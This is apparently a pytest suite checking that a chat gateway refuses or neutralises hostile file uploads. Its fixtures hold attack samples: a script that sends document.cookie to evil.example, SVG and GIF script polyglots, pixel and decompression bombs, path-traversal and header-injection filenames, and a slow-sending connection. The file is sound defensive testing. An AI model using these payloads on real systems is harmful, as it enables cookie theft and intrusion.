"""Files that are meant to harm, over a whole gateway: each refused, or made harmless (SPEC 5.9, 6.7)."""

import asyncio
import io
import zipfile
from collections.abc import AsyncIterator, Iterator
from typing import Any

import pytest
from PIL import Image

from gateway import receiving
from gateway.gateway import FileSettings
from store.redis.server import EmbeddedValkey
from store.sql.database import Databases
from tests.kit.engines import Bench, bench
from tests.kit.gateways import Running, get, nordvik, running
from tests.kit.hubs import house
from tests.kit.uploads import (
    ask_upload,
    bomb,
    download,
    file_settings,
    files_in,
    moving,
    picture,
    put,
    shown,
    text_bomb,
    upload,
)

SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def archive() -> bytes:
    """A zip, which is read from its end."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as made:
        made.writestr("evil.class", SCRIPT)
    return data.getvalue()


def endless() -> bytes:
    """A GIF of more frames than anybody looks at."""
    first, *rest = (Image.new("L", (1, 1), at % 256) for at in range(700))
    data = io.BytesIO()
    first.save(data, "GIF", save_all=True, append_images=rest, duration=20)
    return data.getvalue()


REFUSED: dict[str, tuple[str, bytes]] = {
    "a page called PNG": ("image/png", HTML),
    "an SVG called PNG": ("image/png", SVG),
    "a PNG called JPEG": ("image/jpeg", picture("PNG")),
    "a bitmap called PNG": ("image/png", picture("BMP")),
    "a script behind the mark of a GIF": ("image/gif", b"GIF89a/*" + bytes(8) + b"*/=1;alert(1)"),
    "half a photograph": ("image/jpeg", picture("JPEG", (400, 400))[:900]),
    "a program called PDF": ("application/pdf", b"MZ\x90\0" + bytes(200)),
    "a page called text": ("text/plain", b"Hello\n" + HTML),
    "bytes called text": ("text/plain", bytes(range(256))),
    "an image under no name": ("application/octet-stream", picture("JPEG")),
    "an archive called sound": ("audio/mpeg", archive()),
    "2,500 million pixels in 300 kB": ("image/png", bomb(50_000, 50_000)),
    "a side of 20,000 pixels": ("image/png", bomb(20_000, 10)),
    "200 MB of text in a PNG": ("image/png", text_bomb()),
    "700 frames": ("image/gif", endless()),
}


@pytest.fixture
def files() -> Iterator[FileSettings]:
    with file_settings("disk") as settings:
        yield settings


@pytest.fixture
async def cell(valkey: EmbeddedValkey, sqlite_databases: Databases) -> AsyncIterator[Bench]:
    async with bench(valkey, sqlite_databases) as cell, house(cell, nordvik()):
        yield cell


@pytest.fixture
async def gateway(cell: Bench, files: FileSettings) -> AsyncIterator[Running]:
    async with running(cell, files=files) as made:
        yield made


async def test_what_is_not_what_it_says_or_unfolds_too_far_is_refused(gateway: Running, files: FileSettings) -> None:
    """All of it alike, and nothing of it lies anywhere afterwards."""
    async with gateway.visitor() as phone:
        where = (await get(phone, "ready"))["conversation"]
        for about, (type_, content) in REFUSED.items():
            told = await upload(gateway, phone, where, content, type=type_)
            assert (told.status_code, told.json()["code"]) == (415, "bad_file"), about
            assert files_in(files) == [], about
        assert gateway.gateway.sockets.counts.uploads == {"415": len(REFUSED)}


@pytest.mark.parametrize(
    ("kind", "behind"),
    [("JPEG", archive()), ("PNG", HTML), ("GIF", SCRIPT), ("WEBP", archive()), ("moving GIF", HTML)],
    ids=["JPEG and archive", "PNG and page", "GIF and script", "WebP and archive", "moving GIF and page"],
)
async def test_what_is_an_image_and_something_else_is_an_image_alone(
    gateway: Running, kind: str, behind: bytes
) -> None:
    """It is painted anew: what stood behind it, or in its comments, is gone."""
    name = kind.rsplit(maxsplit=1)[-1]
    content = (moving() if kind != name else picture(name)) + behind
    async with gateway.visitor() as phone:
        where = (await get(phone, "ready"))["conversation"]
        done = await upload(gateway, phone, where, content, type=f"image/{name.lower()}")
        assert done.status_code == 200, done.text
        got = (await download(gateway, phone, where, done.json()["file"]["id"])).content
        assert shown(got).format == name
        assert b"<script" not in got
        assert b"evil" not in got
        assert not zipfile.is_zipfile(io.BytesIO(got))


@pytest.mark.parametrize(
    ("type_", "content"), [("image/svg+xml", SVG), ("text/html", HTML)], ids=["an SVG with a script", "a page"]
)
async def test_what_could_run_in_a_browser_is_only_saved(gateway: Running, type_: str, content: bytes) -> None:
    """Whole, as bytes of no type, sandboxed, with nothing to guess."""
    async with gateway.visitor() as phone:
        where = (await get(phone, "ready"))["conversation"]
        done = await upload(gateway, phone, where, content, name="me.svg", type=type_)
        assert done.json()["file"]["kind"] == "file"
        got = await download(gateway, phone, where, done.json()["file"]["id"])
        assert (got.content, got.headers["content-type"]) == (content, "application/octet-stream")
        assert got.headers["content-disposition"].startswith("attachment;")
        assert got.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in got.headers["content-security-policy"]


@pytest.mark.parametrize(
    ("name", "seen"),
    [
        ("../../../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\win.ini", "win.ini"),
        ("/etc/cron.d/job", "job"),
        ("a\0b\r\nSet-Cookie: x=1.png", "a b Set-Cookie: x=1.png"),
        ("cv\u202egnp.exe", "cv gnp.exe"),
        ("..", "file"),
        ("x" * 250 + ".png", "x" * 116 + ".png"),
    ],
)
async def test_a_name_is_only_shown(gateway: Running, files: FileSettings, name: str, seen: str) -> None:
    """Whatever it says, the file lies where we put it, under a name of ours."""
    async with gateway.visitor() as phone:
        where = (await get(phone, "ready"))["conversation"]
        done = await upload(gateway, phone, where, picture(), name=name)
        file = done.json()["file"]
        assert file["name"] == seen
        assert [path.name for path in files_in(files)] == [file["id"]]
        got = await download(gateway, phone, where, file["id"])
        assert "set-cookie" not in got.headers


async def test_a_path_in_the_address_leads_nowhere(gateway: Running, cell: Bench) -> None:
    """Encoded or not."""
    for address in ("..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "a/b", "%00", "x" * 5_000):
        assert (await put(gateway, f"/v1/attachments/{address}", b"x")).status_code == 404


async def test_who_sends_slowly_is_not_waited_for(
    gateway: Running, files: FileSettings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """And nothing of what came is kept."""
    monkeypatch.setattr(receiving, "IDLE_S", 0.05)
    content = picture()
    async with gateway.visitor() as phone:
        where = (await get(phone, "ready"))["conversation"]
        url = (await ask_upload(phone, where, content))["url"]
        reader, writer = await asyncio.open_connection("127.0.0.1", gateway.gateway.port)
        writer.write(f"PUT {url} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(content)}\r\n\r\n".encode() + content[:9])
        async with asyncio.timeout(60):
            status = await reader.readline()
        writer.close()
        assert status.startswith(b"HTTP/1.1 400")
        assert files_in(files) == []


async def test_what_was_put_and_never_sent_does_not_pile_up(gateway: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    """A visitor has so many, until they send some or a day has gone by."""
    monkeypatch.setattr(receiving, "MAX_UNUSED", 2)
    async with gateway.visitor() as phone:
        where = (await get(phone, "ready"))["conversation"]
        told: list[Any] = [await upload(gateway, phone, where, picture()) for _ in range(3)]
        assert [each.status_code for each in told] == [200, 200, 429]
        assert told[2].json()["retry_after_ms"] > 0
